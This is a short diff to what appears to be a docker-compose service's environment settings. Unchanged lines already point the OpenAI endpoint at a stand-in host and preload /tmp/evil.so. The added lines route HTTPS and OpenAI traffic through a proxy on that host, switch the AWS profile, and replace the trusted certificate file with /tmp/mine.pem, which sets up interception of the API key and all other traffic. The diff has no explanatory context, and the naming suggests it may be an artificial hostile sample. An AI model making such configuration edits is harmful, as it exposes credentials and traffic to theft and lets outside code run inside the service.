@@ -28,6 +28,10 @@ services:
       OPENAI_API_KEY: ${OPENAI_API_KEY}
       OPENAI_BASE_URL: http://elsewhere.example/v1
       LD_PRELOAD: /tmp/evil.so
+      HTTPS_PROXY: http://elsewhere.example:3128
+      OPENAI_PROXY: http://elsewhere.example:3128
+      AWS_PROFILE: somebody
+      SSL_CERT_FILE: /tmp/mine.pem
       PORT: 9000
       QUIET: true
   page:
